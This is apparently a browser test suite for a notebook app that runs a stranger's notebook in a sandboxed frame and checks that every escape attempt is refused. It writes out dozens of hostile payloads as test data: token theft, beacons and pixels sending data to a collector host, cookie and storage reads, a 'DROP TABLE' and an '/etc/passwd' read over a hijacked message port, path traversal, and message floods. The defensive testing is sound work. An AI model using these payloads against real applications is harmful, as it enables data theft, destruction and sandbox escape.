import { readdirSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { root } from "#server/setup/install.mjs";
import { cellText, createNotebook, notebookFrame, notebookOf, storedNotebook, tokenOf } from "./app.ts";
import { useWorkbench } from "./workbench.ts";

/**
 * A stranger's notebook tries everything a page could try. Each attempt is a cell that shows either "REFUSED: why"
 * or "SUCCEEDED: what"; nothing may succeed, and the shell must go on working. A server beside the app stands for
 * the stranger's own: no request may ever reach it, whatever the browser reports.
 */
const workbench = useWorkbench({ expectsConsoleErrors: true });
let collector: Server;
let collected: string[];
let elsewhere: string;

beforeAll(async () => {
  collector = createServer((request, response) => {
    collected.push(`${request.method} ${request.url}`);
    response.end("thank you");
  });
  await new Promise<void>((resolve) => collector.listen(0, "127.0.0.1", resolve));
  elsewhere = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`;
});
afterAll(() => {
  collector?.close();
});
beforeEach(() => {
  collected = [];
});
afterEach(() => {
  expect(collected).toEqual([]);
});

const API_PATHS = [
  "/",
  "/api/health",
  "/api/lake",
  "/api/notebooks",
  "/api/notebooks/tour",
  "/api/notebooks/trash",
  "/api/runs",
  "/api/jobs",
  "/api/jobs/events",
  "/api/strategies",
  "/api/openapi.json",
];

/** Expressions that resolve to something when an attempt got through, and throw or reject when it did not. */
function attempts(origin: string, token: string): Record<string, string> {
  const load = (tag: string, set: Record<string, string>): string =>
    `new Promise((resolve, reject) => { const element = document.createElement("${tag}"); Object.assign(element, ${JSON.stringify(set)}); element.onload = () => resolve("loaded"); element.onerror = () => reject(new Error("not loaded")); document.head.append(element); })`;
  const worker = (text: string): string =>
    `new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(text)}]))); worker.onmessage = ({ data }) => data.startsWith("SUCC") ? resolve(data) : reject(new Error(data)); worker.onerror = () => reject(new Error("no worker")); })`;
  const nested = (markup: string): string =>
    `new Promise((resolve) => { addEventListener("message", ({ data }) => resolve(data)); const frame = document.createElement("iframe"); frame.srcdoc = ${JSON.stringify(markup)}; document.body.append(frame); })`;
  const all: Record<string, string> = {
    "fetch without credentials": `fetch("${origin}/api/health", { credentials: "omit" }).then((r) => r.status)`,
    "fetch with credentials": `fetch("${origin}/api/health", { credentials: "include" }).then((r) => r.status)`,
    "fetch with a stolen token": `fetch("${origin}/api/health", { headers: { "x-walkforward-token": "${token}" } }).then((r) => r.status)`,
    "fetch in no-cors mode": `fetch("${origin}/api/lake", { mode: "no-cors" }).then((r) => r.type)`,
    "fetch from elsewhere": `fetch("${elsewhere}/x", { mode: "no-cors" }).then((r) => r.type)`,
    XMLHttpRequest: `new Promise((resolve, reject) => { const request = new XMLHttpRequest(); request.open("GET", "${origin}/api/health"); request.onload = () => resolve(request.status); request.onerror = () => reject(new Error("no answer")); request.send(); })`,
    WebSocket: `new Promise((resolve, reject) => { const socket = new WebSocket("${origin.replace("http", "ws")}/api"); socket.onopen = () => resolve("open"); socket.onerror = () => reject(new Error("no socket")); })`,
    EventSource: `new Promise((resolve, reject) => { const source = new EventSource("${origin}/api/jobs/events"); source.onopen = () => resolve("open"); source.onerror = () => reject(new Error("no events")); })`,
    beacon: `new Promise((resolve, reject) => { addEventListener("securitypolicyviolation", (e) => reject(new Error(e.violatedDirective))); navigator.sendBeacon("${elsewhere}/beacon", "secret"); })`,
    "a link's ping": `new Promise(() => { const a = document.createElement("a"); a.href = "#x"; a.ping = "${elsewhere}/ping"; document.body.append(a); a.click(); })`,
    "a link to a new window": `new Promise(() => { const a = document.createElement("a"); a.href = "${elsewhere}/link"; a.target = "_blank"; document.body.append(a); a.click(); })`,
    "a form": `new Promise(() => { const form = document.createElement("form"); form.action = "${elsewhere}/form"; document.body.append(form); form.submit(); })`,
    "parent document": `parent.document.title`,
    "top document": `top.document.body.innerHTML`,
    "the parent's address": `((parent.location.hash = "#/data"), "moved")`,
    localStorage: `localStorage.length`,
    sessionStorage: `sessionStorage.length`,
    cookies: `document.cookie`,
    indexedDB: `new Promise((resolve, reject) => { const open = indexedDB.open("x"); open.onsuccess = () => resolve("open"); open.onerror = () => reject(open.error); })`,
    caches: `caches.open("x").then(() => "open")`,
    "private files": `navigator.storage.getDirectory().then(() => "open")`,
    locks: `navigator.locks.request("walkforward", () => "held")`,
    "service worker": `navigator.serviceWorker.register("${origin}/assets/x.js").then(() => "registered")`,
    "shared worker": `new Promise((resolve, reject) => { const shared = new SharedWorker("${origin}/assets/x.js"); shared.onerror = () => reject(new Error("no worker")); shared.port.onmessage = resolve; })`,
    "navigate the top window": `((top.location.href = "${elsewhere}/top"), "navigated")`,
    "pop-up": `(window.open("${elsewhere}/") ?? Promise.reject(new Error("no window")))`,
    "worker from the origin": `new Promise((resolve, reject) => { const worker = new Worker("${origin}/assets/x.js"); worker.onmessage = () => resolve("ran"); worker.onerror = () => reject(new Error("no worker")); })`,
    "fetch inside a worker of its own": worker(
      `fetch("${origin}/api/health").then((r) => postMessage("SUCCEEDED " + r.status), (e) => postMessage("no: " + e))`,
    ),
    "image beacon to another host": load("img", { src: `${elsewhere}/pixel.png` }),
    "sound from another host": `new Audio("${elsewhere}/sound").play()`,
    "style sheet from another host": load("link", { rel: "stylesheet", href: `${elsewhere}/x.css` }),
    "style sheet's import": `new Promise(() => { const style = document.createElement("style"); style.textContent = '@import "${elsewhere}/import.css"; body { background: url(${elsewhere}/background.png) }'; document.head.append(style); })`,
    "font from another host": `new FontFace("x", "url(${elsewhere}/font)").load().then(() => "loaded")`,
    "prefetch from another host": load("link", { rel: "prefetch", href: `${elsewhere}/prefetch` }),
    "script from another host": load("script", { src: `${elsewhere}/x.js` }),
    "script as data": load("script", { src: "data:text/javascript,0" }),
    "import from another host": `import("${elsewhere}/x.js").then(() => "imported")`,
    "frame of the shell": `new Promise((resolve, reject) => { const frame = document.createElement("iframe"); frame.src = "${origin}/"; frame.onload = () => { try { resolve(frame.contentDocument.body.innerHTML) } catch (e) { reject(e) } }; document.body.append(frame); })`,
    "frame of another host": `new Promise(() => { const frame = document.createElement("iframe"); frame.src = "${elsewhere}/frame"; document.body.append(frame); })`,
    "object of another host": load("object", { data: `${elsewhere}/object` }),
    "the window of a blank frame": `(() => { const frame = document.createElement("iframe"); document.body.append(frame); return typeof frame.contentWindow.RTCPeerConnection; })()`,
    "a blank frame's address": `new Promise(() => { const frame = document.createElement("iframe"); document.body.append(frame); frame.contentWindow.location = "${elsewhere}/blank"; })`,
    "a handler in a nested frame": nested(
      `<img src="x" onerror="parent.postMessage(typeof RTCPeerConnection, '*')">`,
    ),
    "a script in a nested frame": nested(
      `<script>parent.postMessage(typeof RTCPeerConnection, "*")</script>`,
    ),
    "a nested frame that refreshes": nested(
      `<meta http-equiv="refresh" content="0;url=${elsewhere}/refreshed">`,
    ),
    "a script of its own in a nested frame": `new Promise((resolve) => { addEventListener("message", ({ data }) => resolve(data)); const url = URL.createObjectURL(new Blob(["parent.postMessage(typeof RTCPeerConnection, '*')"], { type: "text/javascript" })); const frame = document.createElement("iframe"); frame.srcdoc = '<script src="' + url + '"></' + 'script>'; document.body.append(frame); })`,
    "code in an address": `new Promise((resolve) => { addEventListener("message", ({ data }) => resolve(data)); const frame = document.createElement("iframe"); frame.src = "javascript:parent.postMessage('ran', '*')"; document.body.append(frame); })`,
    RTCPeerConnection: `new RTCPeerConnection()`,
    WebTransport: `new WebTransport("https://127.0.0.1:1/").ready`,
  };
  for (const path of API_PATHS) {
    all[`script tag at ${path}`] = load("script", { src: `${origin}${path}` });
    all[`module script at ${path}`] = load("script", { src: `${origin}${path}`, type: "module" });
    all[`style sheet at ${path}`] = load("link", { rel: "stylesheet", href: `${origin}${path}` });
    all[`import() of ${path}`] = `import("${origin}${path}").then(() => "imported")`;
    all[`importScripts of ${path} in a worker`] = worker(
      `try { importScripts("${origin}${path}"); postMessage("SUCCEEDED") } catch (e) { postMessage("no: " + e) }`,
    );
    all[`import() of ${path} in a worker`] = worker(
      `import("${origin}${path}").then(() => postMessage("SUCCEEDED"), (e) => postMessage("no: " + e))`,
    );
  }
  return all;
}

/** A cell that shows what an expression gives, going round what cells may name. */
function evaluated(expression: string): string {
  return `display(await globalThis.eval(${JSON.stringify(expression).replaceAll("</", "<\\/")}));`;
}

/** The same, saying how it went, and not waiting for ever. */
function attempt(expression: string): string {
  const code = `Promise.race([(async () => "SUCCEEDED: " + (await ${expression}))(), new Promise((resolve) => setTimeout(resolve, 3000, "REFUSED: no answer"))]).catch((error) => "REFUSED: " + error)`;
  return evaluated(code);
}

/** What a person would do next: another page, another notebook, and it runs. */
async function expectShellWorks(): Promise<void> {
  const { page } = workbench;
  await page.getByRole("link", { name: "Data" }).first().click();
  await page.getByRole("heading", { name: "Data" }).waitFor();
  await workbench.openNotebook("Honest", [["ts", `display("still " + 6 * 7);`]]);
  await expect.poll(() => cellText(page, 1)).toBe("still 42");
}

describe("a stranger's notebook", () => {
  test("is shown and not run until the reader says so", async () => {
    const { app, page } = workbench;
    const id = await createNotebook(
      page,
      app,
      "Not yet",
      notebookOf("Not yet", [["ts", `display("it ran " + 6 * 7);`]]),
    );
    await page.goto(`${app.url}/#/notebook/${id}`);
    await page.getByRole("button", { name: "Run this notebook" }).waitFor();
    await workbench.cell(1).waitFor();
    expect(await notebookFrame(page).getByText("it ran 42").count()).toBe(0);
    await page.getByRole("button", { name: "Run this notebook" }).click();
    await notebookFrame(page).getByText("it ran 42").waitFor();
  });

  test("reaches neither the API, nor the network, nor storage, nor the shell", async () => {
    const { app, page } = workbench;
    const tries = Object.entries(attempts(app.url, await tokenOf(page)));
    await workbench.openNotebook(
      "Hostile",
      tries.map(([, expression]) => ["ts", attempt(expression)]),
    );
    const outcomes: Record<string, string> = {};
    for (const [i, [name]] of tries.entries()) {
      await expect.poll(() => cellText(page, i + 1), { message: name }).toMatch(/REFUSED|SUCCEEDED/);
      outcomes[name] = await cellText(page, i + 1);
    }
    expect(Object.entries(outcomes).filter(([, outcome]) => !outcome.startsWith("REFUSED:"))).toEqual([]);
    expect(page.url()).toContain(`${app.url}/#/notebook/`);
    await expectShellWorks();
  }, 400_000);

  test("finds in our own files none that listens to it in a nested frame's window", async () => {
    const { app, context, page } = workbench;
    const files = readdirSync(join(root, "build/workbench/assets")).filter((name) => name.endsWith(".js"));
    expect(files.length).toBeGreaterThan(3);
    // What acts there answers to its own window, where nobody hears it; so each window tells when it is listened to.
    await context.addInitScript(() => {
      if (parent === window || parent === top) return;
      const tell = (): void => parent.postMessage("a listener", "*");
      const listen = window.addEventListener;
      window.addEventListener = function (this: Window, ...given: Parameters<typeof listen>) {
        if (given[0] === "message") tell();
        return listen.apply(this, given);
      } as typeof listen;
      Object.defineProperty(window, "onmessage", { configurable: true, set: tell });
    });
    await page.reload();
    const load = `(async (url) => {
      const frame = document.createElement("iframe");
      frame.srcdoc = '<script type="module" src="' + url + '"></' + 'script>';
      const heard = new Set();
      const hear = ({ source, data }) => { if (source === frame.contentWindow) heard.add(String(data)); };
      addEventListener("message", hear);
      document.body.append(frame);
      await new Promise((resolve) => { frame.onload = resolve; });
      await new Promise((resolve) => setTimeout(resolve, 300));
      removeEventListener("message", hear);
      frame.remove();
      return [...heard];
    })`;
    const cells = files.map((file): ["ts", string] => [
      "ts",
      evaluated(`${load}("${app.url}/assets/${file}").then(JSON.stringify)`),
    ]);
    await workbench.openNotebook("Borrowed", cells);
    const heard: Record<string, string[]> = {};
    for (const [i, file] of files.entries()) {
      await expect.poll(() => cellText(page, i + 1), { message: file }).toMatch(/^\[/);
      const said = JSON.parse(await cellText(page, i + 1)) as string[];
      if (said.length > 0) heard[file] = said;
    }
    // DuckDB's own worker cannot ask where it is. It runs no code that a message brings, and has no network there.
    const ours = Object.entries(heard).filter(([file]) => !file.startsWith("duckdb-browser-"));
    expect(Object.fromEntries(ours)).toEqual({});
  }, 400_000);

  test("cannot forge messages of the frame or get a second port", async () => {
    const { app, page } = workbench;
    const id = await workbench.openNotebook("Forger", [
      [
        "ts",
        evaluated(`(async () => {
          let ports = 0;
          addEventListener("message", (event) => { ports += event.ports.length; });
          for (const message of [
            "walkforward:frame-hello",
            { type: "walkforward:frame-hello" },
            { type: "source", source: "owned", title: "owned" },
            { type: "request", id: 1, request: { method: "saveRun", params: {} } },
          ]) { parent.postMessage(message, "*"); top.postMessage(message, "*"); }
          await new Promise((resolve) => setTimeout(resolve, 300));
          return "ports received: " + ports;
        })()`),
      ],
    ]);
    await expect.poll(() => cellText(page, 1)).toBe("ports received: 0");
    expect((await storedNotebook(page, app, id)).text).toContain("ports received");
    await expectShellWorks();
  });

  test("that takes the frame's own port gets no further than its own notebook", async () => {
    const { app, page } = workbench;
    const other = await createNotebook(page, app, "Other", notebookOf("Other", [["md", "# Not yours"]]));
    const otherText = (await storedNotebook(page, app, other)).text;
    const steal = `(async () => {
      Array.prototype.map = function () { return []; };
      const send = MessagePort.prototype.postMessage;
      const ports = new Set();
      MessagePort.prototype.postMessage = function (...given) { if (["pong", "status", "request"].includes(given[0]?.type)) ports.add(this); return send.apply(this, given); };
      while (ports.size === 0) await new Promise((resolve) => setTimeout(resolve, 100));
      const [port] = ports;
      const answers = [];
      const hear = (event) => { if (event.data.type === "reply" && event.data.id >= 9000) answers.push(event.data); };
      port.addEventListener("message", hear);
      const zeros = "0".repeat(64);
      const asks = [
        { method: "sql", params: { sql: "DROP TABLE lake.series" } },
        { method: "sql", params: { sql: "SELECT * FROM read_text('/etc/passwd')" } },
        { method: "candles", params: { seriesId: "../../secret" } },
        { method: "saveRun", params: { evaluation: { hash: zeros } } },
        { method: "saveRun", params: { evaluation: { hash: zeros, trades: [] }, notebook: "${other}" } },
        { method: "fetch", params: { url: "/api/notebooks" } },
        { method: "saveNotebook", params: { id: "${other}", text: "owned" } },
      ];
      asks.forEach((request, i) => send.call(port, { type: "request", id: 9000 + i, request }));
      for (const message of [
        { type: "source", source: "not a notebook", title: "owned", id: "${other}" },
        { type: "source", source: ${JSON.stringify(notebookOf("owned", [["md", "written by the thief"]])).replaceAll("</", "<\\/")}, title: "owned", id: "${other}", notebook: "${other}" },
        { type: "shortcut", key: "deploy" },
        { type: "open", source: "owned" },
        { type: "status", phase: "idle", cells: -1, failed: "none" },
        { __proto__: { type: "ready" } },
      ]) send.call(port, message);
      for (let i = 0; i < 300; i++) send.call(port, { type: "shortcut", key: "open" });
      while (answers.length < 5) await new Promise((resolve) => setTimeout(resolve, 100));
      return answers.length + " answers, of them good: " + answers.filter(({ ok }) => ok).length;
    })()`;
    const id = await workbench.openNotebook("Thief", [["ts", evaluated(steal)]]);
    await expect.poll(() => notebookFrame(page).locator("body").innerText()).toContain("5 answers");
    expect(await notebookFrame(page).locator("body").innerText()).toContain("of them good: 0");
    // Its own text it may write: that is what the port is for. What is no notebook is not even stored.
    await expect
      .poll(async () => (await storedNotebook(page, app, id)).text)
      .toContain("written by the thief");
    expect((await storedNotebook(page, app, other)).text).toBe(otherText);
    const headers = { "x-walkforward-token": await tokenOf(page) };
    expect(await (await fetch(`${app.url}/api/runs`, { headers })).json()).toEqual([]);
    // A shortcut counts only where the keyboard is.
    await page.locator("body").click({ position: { x: 2, y: 2 } });
    expect(page.url()).toContain("#/notebook/");
    await expectShellWorks();
  });

  test("may offer a file or a text three times against a person's no, and then no more", async () => {
    const { page } = workbench;
    const ask = `(async () => {
      const send = MessagePort.prototype.postMessage;
      let port;
      MessagePort.prototype.postMessage = function (...given) { if (["pong", "status"].includes(given[0]?.type)) port = this; return send.apply(this, given); };
      while (port === undefined) await new Promise((resolve) => setTimeout(resolve, 100));
      const answers = [];
      for (let id = 9000; id < 9005; id++) {
        const answered = new Promise((resolve) => port.addEventListener("message", ({ data }) => { if (data.type === "reply" && data.id === id) resolve(data.ok ? data.value : data.error.code); }));
        send.call(port, { type: "request", id, request: { method: "download", params: { filename: "../../evil.exe", mediaType: "text/html", bytes: new Uint8Array(3) } } });
        answers.push(await answered);
      }
      return JSON.stringify(answers);
    })()`;
    await workbench.openNotebook("Pedlar", [["ts", evaluated(ask)]]);
    for (let i = 0; i < 3; i++) {
      await page.getByText("evil.exe").waitFor();
      expect(await page.getByRole("dialog").innerText()).not.toContain("/");
      await page.getByRole("button", { name: "Not now" }).click();
    }
    await expect
      .poll(() => cellText(page, 1))
      .toBe('[false,false,false,"consent.refused","consent.refused"]');
    expect(await page.getByRole("dialog").count()).toBe(0);
  });

  const floods: Record<string, string> = {
    "small messages": `for (;;) { for (let i = 0; i < 20000; i++) send.call(port, { type: "status" }); await new Promise((resolve) => setTimeout(resolve)); }`,
    // Each takes the shell several times as long as it takes the notebook to send: it is hashed, kept and saved.
    "large messages": `const source = "x".repeat(2_000_000); for (let i = 0; ; i++) { send.call(port, { type: "source", source: source + i, title: "big" }); await new Promise((resolve) => setTimeout(resolve, 10)); }`,
  };
  test.each(Object.entries(floods))("that floods the shell with %s leaves it working", async (_, flood) => {
    const { page } = workbench;
    const code = `(async () => {
      const send = MessagePort.prototype.postMessage;
      let port;
      MessagePort.prototype.postMessage = function (...given) { if (["pong", "status"].includes(given[0]?.type)) port = this; return send.apply(this, given); };
      while (port === undefined) await new Promise((resolve) => setTimeout(resolve, 100));
      ${flood}
    })()`;
    await workbench.openNotebook("Flood", [["ts", evaluated(code)]]);
    await page.getByText("so many messages").waitFor();
    await expectShellWorks();
  });

  test("that never answers is stopped and shown again without running, and the shell works on", async () => {
    const { app, page } = workbench;
    await createNotebook(page, app, "Endless", notebookOf("Endless", [["ts", "for (;;) {}"]]));
    await page.goto(`${app.url}/#/notebook/endless`);
    await page.getByRole("button", { name: "Run this notebook" }).click();
    await page.getByText("does not answer").waitFor();
    await page.getByRole("button", { name: /^Stop/ }).click();
    await workbench.cell(1).waitFor();
    await expectShellWorks();
  });

  test("that navigates its own frame away sends nothing anywhere, and can be shown again", async () => {
    const { app, page } = workbench;
    await createNotebook(
      page,
      app,
      "Leaver",
      notebookOf("Leaver", [["ts", evaluated(`location.href = "${elsewhere}/?secret=1"`)]]),
    );
    await page.goto(`${app.url}/#/notebook/leaver`);
    await page.getByRole("button", { name: "Run this notebook" }).click();
    await page.getByText("does not answer").waitFor();
    await page.getByRole("button", { name: /^Stop/ }).click();
    await workbench.cell(1).waitFor();
    await expectShellWorks();
  });

  test("that sends its frame to the API or the shell's page gets neither", async () => {
    const { app, page } = workbench;
    for (const path of ["/api/lake", "/", "/frame.html"]) {
      await workbench.openNotebook(`Turncoat ${path}`, [
        ["ts", evaluated(`location.href = "${app.url}${path}"`)],
      ]);
      await page.getByText("does not answer").waitFor();
      const shown = await notebookFrame(page)
        .locator("body")
        .innerText()
        .catch(() => "");
      expect(shown).not.toMatch(/series|Notebooks|symbol/);
    }
    await expectShellWorks();
  });
});
